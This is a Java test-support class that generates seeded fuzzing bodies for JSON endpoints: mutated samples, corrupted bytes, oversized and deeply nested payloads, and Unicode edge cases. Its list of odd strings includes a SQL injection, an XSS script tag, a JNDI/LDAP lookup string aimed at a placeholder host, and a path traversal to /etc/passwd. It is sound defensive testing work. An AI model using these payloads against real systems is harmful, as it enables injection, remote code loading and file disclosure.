package cn.eport.testsupport;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Predicate;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import org.jspecify.annotations.Nullable;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.springframework.http.HttpHeaders;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import tools.jackson.core.json.JsonWriteFeature;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Request bodies to throw at a JSON endpoint, most of them made from valid samples so that they get
 * past the parser and into the handler: samples with fields replaced by values of the wrong type,
 * by text from every Unicode general category, full-width digits, control and bidirectional
 * characters, or huge strings; fields removed or added; then the same as bytes truncated or
 * corrupted, bodies larger than the request limit, deeply nested values, and things that are not
 * JSON at all, now and then under another content type. Each body says what it is, so that a
 * failing try reads as "truncated at 37: {"enterp..." rather than as bytes.
 *
 * <p>Everything is drawn from a seeded {@link Random}: the body of try {@code index} of a {@link Run}
 * depends only on the run's seed, its endpoint, the index and the samples passed in, so a failure
 * names the seed and the index and {@code -Deport.fuzz.seed=<seed>} replays the same tries. The seed
 * is {@link #DEFAULT_SEED} unless that property says otherwise. A {@link Run} also counts the answers
 * by status class for the line each fuzz test logs.
 */
public final class FuzzBodies {

    private static final Logger log = LoggerFactory.getLogger(FuzzBodies.class);

    /** The seed of every run unless {@value #SEED_PROPERTY} is set. */
    public static final long DEFAULT_SEED = 20_261_201L;
    /** The system property ({@code -Deport.fuzz.seed=...}, decimal or 0x hex) that replaces the default seed. */
    public static final String SEED_PROPERTY = "eport.fuzz.seed";
    /** Bodies each fuzz test sends per endpoint. */
    public static final int TRIES = 1000;
    /** Over the platform's 64 KiB request limit. */
    public static final int BEYOND_LIMIT = 64 * 1024 + 1;

    /** A body as sent: what it is, its bytes, and its Content-Type header (none when null). */
    /** Who sends a try: a name for the failure message, and the Authorization header, if any. */
    public record Caller(String who, @Nullable String authorization) {
    }

    /** What an endpoint answered a try. */
    public record Answer(int status, String body) {
    }

    public record Body(String kind, byte[] bytes, @Nullable String contentType) {

        @Override
        public String toString() {
            String text = new String(bytes, 0, Math.min(bytes.length, 300), StandardCharsets.UTF_8);
            return kind + " (" + bytes.length + " bytes, " + contentType + "): " + text + (bytes.length > 300 ? "..." : "");
        }
    }

    /**
     * The tries at one endpoint: the random numbers of each, its body, and the answers counted by status class for
     * the line the test logs.
     */
    public static final class Run {

        private final String endpoint;
        private final long seed;
        private final int[] byClass = new int[6];
        private int bodies;

        /** A run at the endpoint ("POST /api/applications") with the seed of {@link FuzzBodies#seed()}. */
        public Run(String endpoint) {
            this(endpoint, FuzzBodies.seed());
        }

        public Run(String endpoint, long seed) {
            this.endpoint = endpoint;
            this.seed = seed;
        }

        public String endpoint() {
            return endpoint;
        }

        public long seed() {
            return seed;
        }

        /**
         * The random numbers of try {@code index} for one purpose ("caller", "path"): the same for the same seed,
         * endpoint, index and purpose, independent of every other try and purpose.
         */
        public Random random(int index, String purpose) {
            return new Random(mix(mix(mix(mix(seed) ^ endpoint.hashCode()) ^ purpose.hashCode()) ^ index));
        }

        /** The body of try {@code index}, around the given valid samples (JSON text), in the mix the class comment describes. */
        public Body body(int index, List<String> samples) {
            if (samples.isEmpty()) {
                throw new IllegalArgumentException("no sample to build bodies around");
            }
            List<JsonNode> trees = samples.stream().map(JSON::readTree).toList();
            return around(random(index, "body"), trees);
        }

        /** Where a try stands, for a failure message: seed, endpoint and index, and how to replay it. */
        public String where(int index) {
            return "seed " + seed + ", try " + index + " of " + endpoint + " (replay with -D" + SEED_PROPERTY + "=" + seed + ")";
        }

        /**
         * Sends try {@code index}: {@code body} with its content type, as {@code caller}, with the idempotency key
         * unless it is empty. Counts the answer, and fails on a 5xx saying the seed and try, the body, the caller and
         * the answer. An exception thrown out of the filter chain counts as the 500 a servlet container would answer.
         */
        public Answer send(MockMvc http, int index, MockHttpServletRequestBuilder request, Body body, Caller caller,
                String idempotencyKey) {
            request.content(body.bytes());
            if (body.contentType() != null) {
                request.header(HttpHeaders.CONTENT_TYPE, body.contentType());
            }
            if (caller.authorization() != null) {
                request.header(HttpHeaders.AUTHORIZATION, caller.authorization());
            }
            if (!idempotencyKey.isEmpty()) {
                request.header("Idempotency-Key", idempotencyKey);
            }
            Answer answer;
            try {
                MockHttpServletResponse response = http.perform(request).andReturn().getResponse();
                answer = new Answer(response.getStatus(), response.getContentAsString());
            } catch (Exception escaped) {
                log.error("{}: {} by {} escaped as an exception", where(index), body, caller.who(), escaped);
                answer = new Answer(500, escaped.toString());
            }
            answered(answer.status());
            if (answer.status() >= 500) {
                throw new AssertionError(String.format("%s: %s by %s answered %s", where(index), body, caller.who(),
                        shortened(answer.body())));
            }
            return answer;
        }

        public synchronized void answered(int status) {
            bodies++;
            byClass[Math.max(0, Math.min(5, status / 100))]++;
        }

        /** {@code fuzz POST /api/applications: 1000 bodies, 2xx=.., 3xx=.., 4xx=.., 5xx=0 (seed 20261201)}. */
        public synchronized String line() {
            return "fuzz " + endpoint + ": " + bodies + " bodies, 2xx=" + byClass[2] + ", 3xx=" + byClass[3] + ", 4xx=" + byClass[4]
                    + ", 5xx=" + byClass[5] + " (seed " + seed + ")";
        }
    }

    /**
     * What a successful request uses up (a rejected application once amended, a case once decided): each try picks
     * among those left, so that valid bodies keep getting through to the database until all are used.
     */
    public static final class Pool {

        private final List<String> left;
        private final String whenAllUsed;

        public Pool(List<String> items) {
            this.left = new CopyOnWriteArrayList<>(items);
            this.whenAllUsed = items.get(0);
        }

        /** One of those left (the first of all once all are used). */
        public String pick(Random random) {
            List<String> now = samples();
            return now.get(random.nextInt(now.size()));
        }

        /** Those left, or the first of all once all are used: never empty. */
        public List<String> samples() {
            List<String> now = List.copyOf(left);
            return now.isEmpty() ? List.of(whenAllUsed) : now;
        }

        public void usedUp(Predicate<String> which) {
            left.removeIf(which);
        }

        public int left() {
            return left.size();
        }
    }

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final JsonMapper JSON = JsonMapper.builder().build();
    /** Writes every non-ASCII character as a backslash-u escape, which also carries half surrogates and NULs intact. */
    private static final JsonMapper ESCAPING = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

    /** The code points of each Unicode general category this JDK knows, every one of them, category by category. */
    private static final int[][] CODE_POINTS_BY_CATEGORY = codePointsByCategory();

    private static final List<String> ODD_STRINGS = List.of("", " ", "\u3000", "null", "true", "0", "-1", "1e309", "NaN",
            "'; DROP TABLE applications; --", "<script>alert(1)</script>", "${jndi:ldap://example.invalid/a}", "../../etc/passwd",
            "%00", "\\", "\"", "{}", "[]", "\uFEFF", "\uFFFD", "\uFFFF", "\uDBFF\uDFFF", "Ａ".repeat(60), "0".repeat(50),
            "YY2026000000011", "M000100Y-4", "91350100M000100Y43", "11010519491231002X", "REJECTED", "APPROVED", "REFERRED",
            "DOMESTIC", "domestic", "FOREIGN_INVESTED ");

    /**
     * Content types other than plain application/json; NONE sends no Content-Type header. Not among them: an empty
     * or unknown charset, on which MockMvc's own filter wrapper throws before the application sees the request (the
     * real server answers 415).
     */
    private static final String NONE = "(none)";
    private static final List<String> CONTENT_TYPES = List.of("application/json;charset=UTF-8",
            "application/json;charset=ISO-8859-1", "application/json;charset=UTF-16", "application/json;charset=GB18030",
            "application/merge-patch+json", "application/problem+json", "text/plain",
            "application/x-www-form-urlencoded", "application/xml", "multipart/form-data", "*/*", "application/*", "json", NONE);

    private static final List<String> NOT_JSON = List.of("", "null", "true", "1", "\"text\"", "hello", "<application/>", "a=b&c=d",
            "{", "}", "[", "\"", "{\"enterprise\": }", "{,}", "{\"a\" 1}", "{'a': 'b'}", "{\"a\": 1} {\"a\": 2}", "{\"a\": 01}",
            "{\"a\": .5}", "{\"a\": NaN}", "{\"a\": Infinity}", "/* comment */ {}", "\uFEFF{}", "{\"a\": \"\\x00\"}",
            "{\"a\": \"\\u00\"}", "{\"a\": \"\\ud800\"}", "{\"a\": \"\u0000\"}", "{\"a\": \"\u0001\n\"}");

    private static final int[] CONTROLS = {0x09, 0x0A, 0x0D, 0x1B, 0x7F, 0x85, 0x200B, 0x200E, 0x200F, 0x202A, 0x202E, 0x2066,
            0x2069, 0x2028, 0xFEFF, 0xD800, 0xDC00};
    private static final int[] UNASSIGNED_OR_PRIVATE = {0x0378, 0x0870, 0x2FFFF, 0x3134B, 0xE0000, 0xF0000, 0x10FFFD, 0xFFFE,
            0x1FFFF};
    private static final int[] PLAUSIBLE_PUNCTUATION = {0x3000, 0x00B7, 0x2014, 0xFF08, 0xFF09, 0x3001};
    private static final String[] HUGE_UNITS = {"x", "福", "\u0000", "０", "😀"};

    private FuzzBodies() {
    }

    /** The seed: {@value #SEED_PROPERTY} when set (decimal or 0x hex), else {@link #DEFAULT_SEED}. */
    public static long seed() {
        String property = System.getProperty(SEED_PROPERTY);
        if (property == null || property.isBlank()) {
            return DEFAULT_SEED;
        }
        try {
            return Long.decode(property.trim());
        } catch (NumberFormatException e) {
            throw new IllegalArgumentException("-D" + SEED_PROPERTY + "=" + property + " is not a number", e);
        }
    }

    /**
     * The index of a choice drawn by weight: {@code pick(random, 6, 3, 1)} is 0 six times in ten, 1 three times, 2
     * once.
     */
    public static int pick(Random random, int... weights) {
        int total = 0;
        for (int weight : weights) {
            total += weight;
        }
        int draw = random.nextInt(total);
        for (int i = 0; i < weights.length; i++) {
            draw -= weights[i];
            if (draw < 0) {
                return i;
            }
        }
        throw new IllegalStateException("unreachable");
    }

    /** The text cut to its first 500 chars, for a failure message that quotes an answer. */
    public static String shortened(String text) {
        return text.length() > 500 ? text.substring(0, 500) + "... (" + text.length() + " chars)" : text;
    }

    /** One of the values, each as likely. */
    public static <T> T oneOf(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** A UUID from the random numbers, so that it is the same again on a replay. */
    public static UUID uuid(Random random) {
        return new UUID((random.nextLong() & ~0xF000L) | 0x4000L, (random.nextLong() & ~(3L << 62)) | (1L << 63));
    }

    /**
     * An int from {@code min} to {@code max}, both included: now and then one of the bounds themselves, where
     * off-by-one mistakes live, else any in between.
     */
    public static int between(Random random, int min, int max) {
        int edge = random.nextInt(16);
        if (edge == 0) {
            return min;
        }
        if (edge == 1) {
            return max;
        }
        return min + (int) (random.nextDouble() * ((long) max - min + 1));
    }

    /** Text of every kind: from every general category, full-width, with controls, huge, odd. */
    public static String text(Random random) {
        return switch (pick(random, 5, 3, 2, 3, 2, 2, 2, 1)) {
            case 0 -> everyCategory(random);
            case 1 -> oneCategory(random);
            case 2 -> fullWidthDigits(random);
            case 3 -> withAControlCharacter(random);
            case 4 -> chars(random, between(random, 0, 60), 0, 0x7F);
            case 5 -> chars(random, between(random, 1, 250), 0x4E00, 0x9FFF);
            case 6 -> oneOf(random, ODD_STRINGS);
            default -> hugeString(random);
        };
    }

    /** Any JSON value, nested up to {@code depth} containers deep. */
    public static JsonNode anyValue(Random random, int depth) {
        switch (pick(random, 6, 3, 1, 1, 1, depth > 0 ? 2 : 0, depth > 0 ? 2 : 0)) {
            case 0:
                return NODES.stringNode(text(random));
            case 1:
                return number(random);
            case 2:
                return NODES.booleanNode(random.nextBoolean());
            case 3:
                return NODES.nullNode();
            case 4:
                return nestedArrays(between(random, 2, 450));
            case 5: {
                ArrayNode array = NODES.arrayNode();
                for (int i = between(random, 0, 6); i > 0; i--) {
                    array.add(anyValue(random, depth - 1));
                }
                return array;
            }
            default: {
                ObjectNode object = NODES.objectNode();
                for (int i = between(random, 0, 6); i > 0; i--) {
                    object.set(text(random), anyValue(random, depth - 1));
                }
                return object;
            }
        }
    }

    // --- bodies -------------------------------------------------------------------------------

    private static Body around(Random random, List<JsonNode> samples) {
        JsonNode tree = oneOf(random, samples);
        return switch (pick(random, 6, 26, 12, 10, 10, 8, 8, 7, 6, 6, 6, 3)) {
            case 0 -> json("valid sample", tree, false);
            case 1 -> mutated(random, tree);
            case 2 -> withPlausibleText(random, tree);
            case 3 -> withHostileText(random, tree);
            case 4 -> truncated(random, tree);
            case 5 -> corrupted(random, tree);
            case 6 -> json("random JSON", anyValue(random, 2), false);
            case 7 -> huge(random, tree);
            case 8 -> deeplyNested(random);
            case 9 -> notJson(random);
            case 10 -> asContentType(random, json("valid sample", tree, false));
            default -> asContentType(random, mutated(random, tree));
        };
    }

    private static Body asContentType(Random random, Body body) {
        String type = oneOf(random, CONTENT_TYPES);
        return new Body(body.kind() + " as " + type, body.bytes(), NONE.equals(type) ? null : type);
    }

    /** A sample with one to three of its fields replaced, removed, doubled, widened or joined by a stranger. */
    private static Body mutated(Random random, JsonNode tree) {
        List<Mutation> mutations = new ArrayList<>();
        for (int i = between(random, 1, 3); i > 0; i--) {
            mutations.add(mutation(random, tree));
        }
        boolean escaped = random.nextBoolean();
        JsonNode copy = tree.deepCopy();
        for (Mutation mutation : mutations) {
            copy = mutation.apply(copy);
        }
        return json("mutated sample (" + mutations.stream().map(Mutation::toString).collect(Collectors.joining("; ")) + ")", copy,
                escaped);
    }

    /** A sample with one text field replaced by text a person might type: many of these pass the checks and are stored. */
    private static Body withPlausibleText(Random random, JsonNode tree) {
        List<List<Object>> strings = stringPaths(tree);
        if (strings.isEmpty()) {
            return mutated(random, tree);
        }
        List<Object> path = oneOf(random, strings);
        StringBuilder text = new StringBuilder();
        for (int i = between(random, 1, 40); i > 0; i--) {
            text.appendCodePoint(switch (pick(random, 5, 2, 2, 1, 1, 1, 1, 1)) {
                case 0 -> between(random, 0x4E00, 0x9FFF);
                case 1 -> between(random, 0x20, 0x7E);
                case 2 -> between(random, 0xFF01, 0xFF5E);
                case 3 -> between(random, 0xE000, 0xF8FF);
                case 4 -> between(random, 0x20000, 0x2A6DF);
                case 5 -> between(random, 0x1F300, 0x1F64F);
                case 6 -> PLAUSIBLE_PUNCTUATION[random.nextInt(PLAUSIBLE_PUNCTUATION.length)];
                default -> UNASSIGNED_OR_PRIVATE[random.nextInt(UNASSIGNED_OR_PRIVATE.length)];
            });
        }
        return json("sample with " + describe(path) + " = plausible text " + preview(NODES.stringNode(text.toString())),
                replaced(tree, path, NODES.stringNode(text.toString())), random.nextBoolean());
    }

    /** A sample with one text field replaced by short text of any kind: controls, NULs, bidirectional overrides, any category. */
    private static Body withHostileText(Random random, JsonNode tree) {
        List<List<Object>> strings = stringPaths(tree);
        if (strings.isEmpty()) {
            return mutated(random, tree);
        }
        List<Object> path = oneOf(random, strings);
        String hostile = switch (pick(random, 3, 2, 2, 1)) {
            case 0 -> withAControlCharacter(random);
            case 1 -> everyCategory(random);
            case 2 -> oneCategory(random);
            default -> fullWidthDigits(random);
        };
        return json("sample with " + describe(path) + " = hostile text " + preview(NODES.stringNode(hostile)),
                replaced(tree, path, NODES.stringNode(hostile)), random.nextBoolean());
    }

    /** The sample, or the sample with one mutation, cut short anywhere from its first byte to its last. */
    private static Body truncated(Random random, JsonNode tree) {
        JsonNode whole = random.nextBoolean() ? tree : mutation(random, tree).apply(tree.deepCopy());
        byte[] bytes = bytes(whole, false);
        int at = between(random, 0, Math.max(0, bytes.length - 1));
        return new Body("truncated at " + at, Arrays.copyOf(bytes, at), "application/json");
    }

    /** The sample's bytes with bytes overwritten, inserted, deleted or repeated: broken UTF-8 and broken JSON. */
    private static Body corrupted(Random random, JsonNode tree) {
        List<Byte> bytes = new ArrayList<>();
        for (byte b : bytes(tree, false)) {
            bytes.add(b);
        }
        int edits = between(random, 1, 6);
        for (int i = 0; i < edits; i++) {
            int kind = random.nextInt(4);
            int at = random.nextInt(Math.max(1, bytes.size()));
            int value = random.nextInt(256);
            switch (kind) {
                case 0 -> bytes.set(at, (byte) value);
                case 1 -> bytes.add(at, (byte) value);
                case 2 -> bytes.remove(at);
                default -> bytes.addAll(at, new ArrayList<>(bytes.subList(at, Math.min(bytes.size(), at + 1 + value % 40))));
            }
            if (bytes.isEmpty()) {
                bytes.add((byte) '{');
            }
        }
        byte[] out = new byte[bytes.size()];
        for (int i = 0; i < out.length; i++) {
            out[i] = bytes.get(i);
        }
        return new Body("corrupted bytes (" + edits + " edits)", out, "application/json");
    }

    /** Strings, lists and whole bodies around and beyond the request limit. */
    private static Body huge(Random random, JsonNode tree) {
        switch (random.nextInt(3)) {
            case 0: {
                List<List<Object>> strings = stringPaths(tree);
                if (strings.isEmpty()) {
                    return json("valid sample", tree, false);
                }
                List<Object> path = oneOf(random, strings);
                String value = hugeString(random);
                return json("sample with " + describe(path) + " of " + value.length() + " chars",
                        replaced(tree, path, NODES.stringNode(value)), false);
            }
            case 1: {
                List<List<Object>> lists = paths(tree).stream().filter(path -> at(tree, path).isArray()).toList();
                if (lists.isEmpty()) {
                    return json("valid sample", tree, false);
                }
                List<Object> path = oneOf(random, lists);
                int count = between(random, 51, 3000);
                ArrayNode many = NODES.arrayNode();
                JsonNode first = at(tree, path).isEmpty() ? NODES.stringNode("x") : at(tree, path).get(0);
                for (int i = 0; i < count; i++) {
                    many.add(first.deepCopy());
                }
                return json("sample with " + describe(path) + " of " + count + " elements", replaced(tree, path, many), false);
            }
            default: {
                int size = between(random, BEYOND_LIMIT, 3 * BEYOND_LIMIT);
                return new Body("whitespace-padded body of " + size + " bytes",
                        (" ".repeat(size - 2) + "{}").getBytes(StandardCharsets.UTF_8), "application/json");
            }
        }
    }

    private static Body deeplyNested(Random random) {
        int depth = between(random, 2, 40_000);
        String open = oneOf(random, List.of("[", "{\"a\":", "{\"enterprise\":"));
        boolean closed = random.nextBoolean();
        String close = open.equals("[") ? "]" : "}";
        String body = open.repeat(depth) + "1" + (closed ? close.repeat(depth) : "");
        return new Body("nested " + depth + " deep" + (closed ? "" : ", unclosed"), body.getBytes(StandardCharsets.UTF_8),
                "application/json");
    }

    private static Body notJson(Random random) {
        switch (random.nextInt(3)) {
            case 0: {
                String text = oneOf(random, NOT_JSON);
                return new Body("not JSON or odd JSON: " + text, text.getBytes(StandardCharsets.UTF_8), "application/json");
            }
            case 1: {
                byte[] bytes = new byte[between(random, 0, 2000)];
                random.nextBytes(bytes);
                return new Body("random bytes", bytes, "application/json");
            }
            default: {
                String text = random.nextBoolean() ? chars(random, between(random, 0, 200), 0, 0xFFFF) : everyCategory(random);
                return new Body("UTF-16 text", text.getBytes(StandardCharsets.UTF_16), "application/json");
            }
        }
    }

    // --- values -------------------------------------------------------------------------------

    private static JsonNode number(Random random) {
        return switch (random.nextInt(6)) {
            case 0 -> NODES.numberNode(random.nextInt());
            case 1 -> NODES.numberNode(random.nextLong());
            case 2 -> NODES.numberNode(aDouble(random));
            case 3 -> NODES.numberNode(oneOf(random, List.of(0, -1, 1, Integer.MAX_VALUE, Integer.MIN_VALUE)));
            case 4 -> NODES.numberNode(new BigInteger("9".repeat(between(random, 19, 2500))));
            default -> NODES.numberNode(new BigDecimal(oneOf(random, List.of("1e400", "-1e-400", "123456789012345678901234567890.5",
                    "0.0000000000000000000001"))));
        };
    }

    /** Any finite double: small and large, negative, the extremes, minus zero. */
    private static double aDouble(Random random) {
        switch (random.nextInt(4)) {
            case 0:
                return (random.nextDouble() - 0.5) * 2_000;
            case 1:
                return random.nextGaussian() * 1e12;
            case 2: {
                double any = Double.longBitsToDouble(random.nextLong());
                return Double.isFinite(any) ? any : Double.MAX_VALUE;
            }
            default:
                return oneOf(random, List.of(0.0, -0.0, 0.1, -1.5, Double.MAX_VALUE, -Double.MAX_VALUE, Double.MIN_VALUE,
                        Double.MIN_NORMAL, 1e15 + 0.3, 9_007_199_254_740_993.0));
        }
    }

    private static JsonNode nestedArrays(int depth) {
        JsonNode node = NODES.numberNode(1);
        for (int i = 0; i < depth; i++) {
            node = NODES.arrayNode().add(node);
        }
        return node;
    }

    /** Code points each of any category, a new category for each. */
    private static String everyCategory(Random random) {
        StringBuilder text = new StringBuilder();
        for (int i = between(random, 1, 30); i > 0; i--) {
            text.appendCodePoint(codePointOf(random, CODE_POINTS_BY_CATEGORY[random.nextInt(CODE_POINTS_BY_CATEGORY.length)]));
        }
        return text.toString();
    }

    /** Code points all of one category. */
    private static String oneCategory(Random random) {
        int[] category = CODE_POINTS_BY_CATEGORY[random.nextInt(CODE_POINTS_BY_CATEGORY.length)];
        StringBuilder text = new StringBuilder();
        for (int i = between(random, 1, 20); i > 0; i--) {
            text.appendCodePoint(codePointOf(random, category));
        }
        return text.toString();
    }

    /** One of the category's code points; now and then its first or last. */
    private static int codePointOf(Random random, int[] category) {
        return category[between(random, 0, category.length - 1)];
    }

    private static String fullWidthDigits(Random random) {
        String signs = "－（）＋";
        StringBuilder text = new StringBuilder();
        for (int i = between(random, 1, 20); i > 0; i--) {
            int which = random.nextInt(10 + signs.length());
            text.append(which < 10 ? (char) ('\uFF10' + which) : signs.charAt(which - 10));
        }
        return text.toString();
    }

    private static String withAControlCharacter(Random random) {
        int control = pick(random, 4, 1) == 0 ? 0x00 : CONTROLS[random.nextInt(CONTROLS.length)];
        return chars(random, between(random, 0, 10), 0x4E00, 0x9FFF) + new String(Character.toChars(control))
                + chars(random, between(random, 0, 10), 0x4E00, 0x9FFF);
    }

    /**
     * A long run of one character (x, 福, NUL, a full-width zero, an emoji): from a few hundred characters, through
     * text just short of and just past the request limit in UTF-8, to well beyond it.
     */
    private static String hugeString(Random random) {
        String unit = HUGE_UNITS[random.nextInt(HUGE_UNITS.length)];
        int unitBytes = unit.getBytes(StandardCharsets.UTF_8).length;
        int count = switch (pick(random, 2, 1, 1)) {
            case 0 -> between(random, 200, 80_000);
            case 1 -> between(random, (BEYOND_LIMIT - 256) / unitBytes, (BEYOND_LIMIT + 256) / unitBytes);
            default -> between(random, BEYOND_LIMIT / unitBytes + 1, 2 * BEYOND_LIMIT / unitBytes);
        };
        return unit.repeat(count);
    }

    /** {@code length} chars from {@code first} to {@code last}. */
    private static String chars(Random random, int length, int first, int last) {
        char[] chars = new char[length];
        for (int i = 0; i < length; i++) {
            chars[i] = (char) (first + random.nextInt(last - first + 1));
        }
        return new String(chars);
    }

    private static int[][] codePointsByCategory() {
        int[] counts = new int[Character.FINAL_QUOTE_PUNCTUATION + 1];
        for (int codePoint = 0; codePoint <= Character.MAX_CODE_POINT; codePoint++) {
            counts[Character.getType(codePoint)]++;
        }
        int[][] byCategory = new int[counts.length][];
        for (int type = 0; type < counts.length; type++) {
            byCategory[type] = new int[counts[type]];
        }
        int[] filled = new int[counts.length];
        for (int codePoint = 0; codePoint <= Character.MAX_CODE_POINT; codePoint++) {
            int type = Character.getType(codePoint);
            byCategory[type][filled[type]++] = codePoint;
        }
        return Arrays.stream(byCategory).filter(codePoints -> codePoints.length > 0).toArray(int[][]::new);
    }

    /** SplitMix64's finalizer: spreads every bit of the input over the output. */
    private static long mix(long z) {
        z = (z ^ (z >>> 30)) * 0xBF58476D1CE4E5B9L;
        z = (z ^ (z >>> 27)) * 0x94D049BB133111EBL;
        return z ^ (z >>> 31);
    }

    // --- trees --------------------------------------------------------------------------------

    /** One change to a body's tree, at a path of its fields and indexes. */
    private record Mutation(String what, List<Object> path, String how, UnaryOperator<JsonNode> change) {

        JsonNode apply(JsonNode tree) {
            return change.apply(tree);
        }

        @Override
        public String toString() {
            return what + " " + describe(path) + (how.isEmpty() ? "" : " " + how);
        }
    }

    /**
     * The value as JSON, for a body's description: its first 40 code points, with every control, format character,
     * half surrogate and line break written as a backslash-u escape, so that a failure shows what was sent.
     */
    private static String preview(JsonNode value) {
        String json = value.isString() ? '"' + value.asString() + '"' : JSON.writeValueAsString(value);
        StringBuilder shown = new StringBuilder();
        int codePoints = 0;
        for (int i = 0; i < json.length(); i += Character.charCount(json.codePointAt(i))) {
            if (++codePoints > 40) {
                return shown + "...(" + json.length() + " chars)";
            }
            int c = json.codePointAt(i);
            switch (Character.getType(c)) {
                case Character.CONTROL, Character.FORMAT, Character.SURROGATE, Character.LINE_SEPARATOR, Character.PARAGRAPH_SEPARATOR ->
                        shown.append(String.format("\\u%04X", c));
                default -> shown.appendCodePoint(c);
            }
        }
        return shown.toString();
    }

    private static Mutation mutation(Random random, JsonNode tree) {
        List<Object> p = oneOf(random, paths(tree));
        switch (pick(random, 6, 4, 2, 2, 1, 1)) {
            case 0: {
                JsonNode value = anyValue(random, 1);
                return new Mutation("replace", p, "with " + preview(value), t -> replaced(t, p, value));
            }
            case 1: {
                String value = text(random);
                return new Mutation("text at", p, "= " + preview(NODES.stringNode(value)), t -> replaced(t, p, NODES.stringNode(value)));
            }
            case 2:
                return new Mutation("remove", p, "", t -> removed(t, p));
            case 3:
                return new Mutation("full-width", p, "", t -> at(t, p).isString()
                        ? replaced(t, p, NODES.stringNode(fullWidth(at(t, p).asString()))) : t);
            case 4:
                return new Mutation("wrap in an array", p, "", t -> at(t, p).isMissingNode()
                        ? t : replaced(t, p, NODES.arrayNode().add(at(t, p).deepCopy())));
            default: {
                String name = text(random);
                JsonNode value = anyValue(random, 0);
                return new Mutation("add field " + preview(NODES.stringNode(name)) + " beside", p, "= " + preview(value),
                        t -> added(t, p, name, value));
            }
        }
    }

    /** Every path in the tree, the root's included: {@code ["operators", 1, "name"]}. */
    private static List<List<Object>> paths(JsonNode tree) {
        List<List<Object>> paths = new ArrayList<>();
        collect(tree, new ArrayList<>(), paths);
        return paths;
    }

    private static List<List<Object>> stringPaths(JsonNode tree) {
        return paths(tree).stream().filter(path -> at(tree, path).isString()).toList();
    }

    private static void collect(JsonNode node, List<Object> path, List<List<Object>> paths) {
        paths.add(List.copyOf(path));
        if (node.isObject()) {
            for (Map.Entry<String, JsonNode> field : node.properties()) {
                path.add(field.getKey());
                collect(field.getValue(), path, paths);
                path.remove(path.size() - 1);
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                path.add(i);
                collect(node.get(i), path, paths);
                path.remove(path.size() - 1);
            }
        }
    }

    private static JsonNode at(JsonNode tree, List<Object> path) {
        JsonNode node = tree;
        for (Object step : path) {
            JsonNode next = step instanceof Integer index ? node.get(index) : node.get((String) step);
            if (next == null) {
                return NODES.missingNode();
            }
            node = next;
        }
        return node;
    }

    private static JsonNode replaced(JsonNode tree, List<Object> path, JsonNode value) {
        if (path.isEmpty()) {
            return value;
        }
        JsonNode copy = tree.deepCopy();
        JsonNode parent = at(copy, path.subList(0, path.size() - 1));
        Object last = path.get(path.size() - 1);
        if (parent instanceof ObjectNode object && last instanceof String name) {
            object.set(name, value);
        } else if (parent instanceof ArrayNode array && last instanceof Integer index && index < array.size()) {
            array.set(index, value);
        }
        return copy;
    }

    private static JsonNode removed(JsonNode tree, List<Object> path) {
        if (path.isEmpty()) {
            return NODES.objectNode();
        }
        JsonNode copy = tree.deepCopy();
        JsonNode parent = at(copy, path.subList(0, path.size() - 1));
        Object last = path.get(path.size() - 1);
        if (parent instanceof ObjectNode object && last instanceof String name) {
            object.remove(name);
        } else if (parent instanceof ArrayNode array && last instanceof Integer index && index < array.size()) {
            array.remove((int) index);
        }
        return copy;
    }

    private static JsonNode added(JsonNode tree, List<Object> path, String name, JsonNode value) {
        JsonNode copy = tree.deepCopy();
        JsonNode parent = path.isEmpty() ? copy : at(copy, path.subList(0, path.size() - 1));
        if (parent instanceof ObjectNode object) {
            object.set(name, value);
        } else if (parent instanceof ArrayNode array) {
            array.add(value);
        }
        return copy;
    }

    private static String fullWidth(String text) {
        StringBuilder wide = new StringBuilder();
        text.codePoints().forEach(c -> wide.appendCodePoint(c > 0x20 && c < 0x7F ? c - 0x21 + 0xFF01 : c == ' ' ? 0x3000 : c));
        return wide.toString();
    }

    private static String describe(List<Object> path) {
        StringBuilder text = new StringBuilder();
        for (Object step : path) {
            if (step instanceof Integer index) {
                text.append('[').append(index).append(']');
            } else {
                text.append(text.isEmpty() ? "" : ".").append(step);
            }
        }
        return text.isEmpty() ? "body" : text.toString();
    }

    private static Body json(String kind, JsonNode tree, boolean escaped) {
        return new Body(kind + (escaped ? ", non-ASCII escaped" : ""), bytes(tree, escaped), "application/json");
    }

    /** As UTF-8, where half a surrogate pair becomes '?'; escaped, where it stays itself. */
    private static byte[] bytes(JsonNode tree, boolean escaped) {
        return escaped ? ESCAPING.writeValueAsBytes(tree) : JSON.writeValueAsString(tree).getBytes(StandardCharsets.UTF_8);
    }
}
